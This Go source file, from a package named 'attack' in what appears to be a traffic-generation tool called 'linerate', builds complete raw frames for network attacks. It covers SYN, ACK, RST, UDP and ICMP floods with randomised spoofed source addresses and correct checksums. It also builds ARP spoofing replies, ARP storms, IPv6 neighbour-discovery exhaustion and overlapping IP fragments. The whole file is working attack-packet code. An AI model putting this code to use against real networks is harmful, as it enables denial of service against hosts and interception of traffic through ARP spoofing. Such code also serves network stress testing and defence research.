package attack

import (
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"

	"linerate/internal/host/frames"
	"linerate/internal/model/attacks"
	"linerate/internal/model/checksum"
	"linerate/internal/model/message"
)

// Sizes of headers, and numbers of protocols (IANA).
const (
	ethernet, ipv4, ipv6         = 14, 20, 40
	tcp, udp, icmp, fragmentSize = 20, 8, 8, 8
	tcpOptionMSS                 = 4 // bytes of a SYN's only option
	arp                          = 28

	protocolICMP, protocolTCP, protocolUDP, protocolFragment, protocolICMPv6 = 1, 6, 17, 44, 58

	typeIPv4, typeARP, typeIPv6 = 0x0800, 0x0806, 0x86dd

	hops = 64 // time to live, hop limit
	// leastBytes is the smallest frame of Ethernet without its check sequence.
	leastBytes = 60
)

// Flags of TCP.
const flagSYN, flagRST, flagACK = 0x02, 0x04, 0x10

// maker builds the frames of an attack, all of one size. Random fields follow from the request's seed. It is
// not safe for concurrent use.
type maker struct {
	message.AttackRequest
	path   frames.Path
	random *rand.Rand
	six    bool
	ip     int // size of the IP header, including a fragment header
	size   int // of a frame
	taken  map[netip.Addr]bool
	// template is a frame without its random fields. ipSum is the checksum of IPv4's header and sum that of the
	// data behind it, both without the random fields.
	template   []byte
	ipSum, sum uint64
	number     uint64 // number of the next frame
	twin       []byte // the previous frame, which the next one overlaps
}

// newMaker returns a maker of the frames of request r along path p.
func newMaker(r message.AttackRequest, p frames.Path) (*maker, error) {
	m := &maker{AttackRequest: r, path: p, random: rand.New(rand.NewPCG(r.Seed[0], r.Seed[1])),
		six: r.Target.Addr().Is6(), ip: ipv4}
	if m.six {
		m.ip = ipv6
	}
	k, known := attacks.Find(r.Kind)
	if !known || k.Connects {
		return nil, fmt.Errorf("an attack of kind %q is not made of frames", r.Kind)
	}
	if k.Random && (!r.Sources.IsValid() || r.Sources.Addr().Is6() != m.six) {
		return nil, errors.New("its source addresses are of no network, or of the other version of IP")
	}
	if k.Family == 4 {
		return m, m.prepareARP()
	}
	m.prepareIP()
	if p.MTU > 0 && len(m.template)-ethernet > p.MTU {
		return nil, fmt.Errorf("packets of %d bytes are longer than the MTU of %d of %s allows",
			len(m.template)-ethernet, p.MTU, p.Interface)
	}
	return m, nil
}

// prepareARP fills the template for the kinds of attack that use ARP (RFC 826).
func (m *maker) prepareARP() error {
	m.size = leastBytes
	m.template = make([]byte, m.size)
	b, a := m.template, m.template[ethernet:]
	copy(b[6:], m.path.From[:])
	binary.BigEndian.PutUint16(b[12:], typeARP)
	binary.BigEndian.PutUint16(a, 1) // Ethernet
	binary.BigEndian.PutUint16(a[2:], typeIPv4)
	a[4], a[5] = 6, 4
	copy(a[8:], m.path.From[:])
	if m.Kind == attacks.ARPSpoofing {
		copy(b, m.path.To[:])
		binary.BigEndian.PutUint16(a[6:], 2) // reply
		copy(a[14:], m.Claimed.AsSlice())
		copy(a[18:], m.path.To[:])
		copy(a[24:], m.Target.Addr().AsSlice())
		return nil
	}
	for i := range 6 {
		b[i] = 0xff
	}
	binary.BigEndian.PutUint16(a[6:], 1) // request
	copy(a[14:], m.path.Local.Addr().AsSlice())
	m.taken = map[netip.Addr]bool{m.Target.Addr(): true, m.path.Local.Addr(): true}
	for _, address := range m.Taken {
		m.taken[address] = true
	}
	if free := 1<<min(32-m.Network.Bits(), 20) - 2 - len(m.taken); free < 1 {
		return fmt.Errorf("hosts have all addresses of %s", m.Network)
	}
	return nil
}

// prepareIP fills the template for the kinds of attack that use IP.
func (m *maker) prepareIP() {
	protocol, length := 0, 0 // size of what follows the IP header, in bytes
	switch m.Kind {
	case attacks.SYNFlood:
		protocol, length = protocolTCP, tcp+tcpOptionMSS
	case attacks.ACKFlood, attacks.RSTFlood:
		protocol, length = protocolTCP, tcp
	case attacks.UDPFlood:
		protocol, length = protocolUDP, udp+m.Payload
	case attacks.ICMPFlood, attacks.NDExhaustion:
		protocol, length = protocolICMP, icmp+m.Payload
		if m.six {
			protocol = protocolICMPv6
		}
	case attacks.Fragments, attacks.OverlappingFragments:
		protocol, length = protocolUDP, max(m.Payload, udp)
		if m.six {
			m.ip += fragmentSize
		}
	}
	whole := ethernet + m.ip + length
	m.size = max(whole, leastBytes)
	m.template = make([]byte, whole)
	b, h, x := m.template, m.template[ethernet:], m.template[ethernet+m.ip:]
	copy(b, m.path.To[:])
	copy(b[6:], m.path.From[:])
	m.putIP(b, h, protocol, length)
	big := binary.BigEndian
	switch protocol {
	case protocolTCP:
		big.PutUint16(x[2:], m.Target.Port())
		x[12] = byte(length / 4 << 4)
		x[13] = map[string]byte{attacks.SYNFlood: flagSYN, attacks.ACKFlood: flagACK, attacks.RSTFlood: flagRST}[m.Kind]
		big.PutUint16(x[14:], 64240) // window
		if m.Kind == attacks.SYNFlood {
			x[20], x[21] = 2, 4 // maximum segment size (RFC 9293, section 3.7.1)
			big.PutUint16(x[22:], 1460)
		}
	case protocolUDP:
		big.PutUint16(x[2:], m.Target.Port())
		total := length
		if m.Kind != attacks.UDPFlood {
			total = 4 * length // larger than the sum of the fragments
			big.PutUint16(x[2:], 9)
		}
		big.PutUint16(x[4:], uint16(total))
	case protocolICMP:
		x[0] = 8 // echo request (RFC 792)
	case protocolICMPv6:
		x[0] = 128 // (RFC 4443)
	}
	m.sum = checksum.Sum(x)
	if protocol != protocolICMP { // which has no pseudo-header
		m.sum += uint64(protocol) + uint64(length) + checksum.Sum(m.Target.Addr().AsSlice())
	}
}

// putIP writes the IP header, with the target's address.
func (m *maker) putIP(b, h []byte, protocol, length int) {
	big := binary.BigEndian
	fragmented := m.Kind == attacks.Fragments || m.Kind == attacks.OverlappingFragments
	if !m.six {
		big.PutUint16(b[12:], typeIPv4)
		h[0], h[8], h[9] = 0x45, hops, byte(protocol)
		big.PutUint16(h[2:], uint16(ipv4+length))
		if fragmented {
			big.PutUint16(h[6:], 0x2000) // more fragments
		}
		copy(h[16:], m.Target.Addr().AsSlice())
		m.ipSum = checksum.Sum(h[:ipv4])
		return
	}
	big.PutUint16(b[12:], typeIPv6)
	big.PutUint32(h, 6<<28)
	big.PutUint16(h[4:], uint16(m.ip-ipv6+length))
	h[6], h[7] = byte(protocol), hops
	copy(h[24:], m.Target.Addr().AsSlice())
	if fragmented {
		h[6], h[ipv6] = protocolFragment, byte(protocol)
		big.PutUint16(h[ipv6+2:], 1) // more fragments
	}
}

// write builds the next frame in b, whose length is size.
func (m *maker) write(b []byte) {
	clear(b[copy(b, m.template):])
	switch m.Kind {
	case attacks.ARPSpoofing:
	case attacks.ARPStorm:
		copy(b[ethernet+24:], m.free())
	default:
		m.draw(b)
	}
	m.number++
}

// draw fills in the random fields of a packet and its checksums.
func (m *maker) draw(b []byte) {
	big := binary.BigEndian
	h, x := b[ethernet:ethernet+m.ip], b[ethernet+m.ip:len(m.template)]
	source, identification := h[12:16], h[4:6]
	if m.six {
		source = h[8:24]
	}
	second := m.Kind == attacks.OverlappingFragments && m.number%2 == 1 && m.twin != nil
	if second {
		m.overlap(b, h)
		return
	}
	within(m.Sources, source, m.random)
	sum := m.sum
	if !m.six {
		big.PutUint16(identification, uint16(m.random.Uint32()))
		big.PutUint16(h[10:], ^checksum.Fold(m.ipSum+checksum.Sum(source)+checksum.Sum(identification)))
	}
	if m.Kind == attacks.NDExhaustion {
		sum -= checksum.Sum(h[24:40])
		within(m.Network, h[24:40], m.random)
		sum += checksum.Sum(h[24:40])
	}
	switch m.Kind {
	case attacks.SYNFlood, attacks.ACKFlood, attacks.RSTFlood:
		big.PutUint16(x, port(m.random))
		big.PutUint32(x[4:], m.random.Uint32())
		if m.Kind == attacks.ACKFlood {
			big.PutUint32(x[8:], m.random.Uint32())
		}
		big.PutUint16(x[16:], ^checksum.Fold(sum+checksum.Sum(source)+checksum.Sum(x[:2])+checksum.Sum(x[4:12])))
	case attacks.UDPFlood:
		big.PutUint16(x, port(m.random))
		check := ^checksum.Fold(sum + checksum.Sum(source) + checksum.Sum(x[:2]))
		if check == 0 {
			check = 0xffff // 0 means that there is no checksum
		}
		big.PutUint16(x[6:], check)
	case attacks.ICMPFlood, attacks.NDExhaustion:
		big.PutUint32(x[4:], m.random.Uint32()) // identifier and sequence number
		if m.six {
			sum += checksum.Sum(source)
		}
		big.PutUint16(x[2:], ^checksum.Fold(sum+checksum.Sum(x[4:8])))
	case attacks.Fragments, attacks.OverlappingFragments:
		big.PutUint16(x, port(m.random))
		if m.six {
			big.PutUint32(h[ipv6+4:], m.random.Uint32())
		}
		m.twin = append(m.twin[:0], h...)
	}
}

// overlap turns b into a fragment of the previous packet that begins within its first fragment.
func (m *maker) overlap(b, h []byte) {
	copy(h, m.twin)
	offset := uint16(m.Payload / 2 / 8)
	big := binary.BigEndian
	if m.six {
		big.PutUint16(h[ipv6+2:], offset<<3|1)
		return
	}
	big.PutUint16(h[6:], 0x2000|offset)
	big.PutUint16(h[10:], 0)
	big.PutUint16(h[10:], checksum.Of(h[:ipv4]))
}

// free returns a random address of the target's network that belongs to no host and is not its first or last
// address.
func (m *maker) free() []byte {
	for {
		address := m.Network.Addr().As4()
		within(m.Network, address[:], m.random)
		a := netip.AddrFrom4(address)
		if a != m.Network.Masked().Addr() && m.Network.Contains(a.Next()) && !m.taken[a] {
			return address[:]
		}
	}
}

// within writes a random address of network to b.
func within(network netip.Prefix, b []byte, random *rand.Rand) {
	base := network.Addr().AsSlice()
	for i := len(b) - 4; i >= 0; i -= 4 {
		host := min(32, max(0, network.Bits()-8*i)) // leading bits of this word that belong to the network
		mask := uint32(uint64(1)<<(32-host) - 1)
		word := binary.BigEndian.Uint32(base[i:])
		if mask != 0 {
			word = word&^mask | random.Uint32()&mask
		}
		binary.BigEndian.PutUint32(b[i:], word)
	}
}

// port returns a random source port.
func port(random *rand.Rand) uint16 {
	const lowest = 1024
	return uint16(lowest + random.UintN(1<<16-lowest))
}
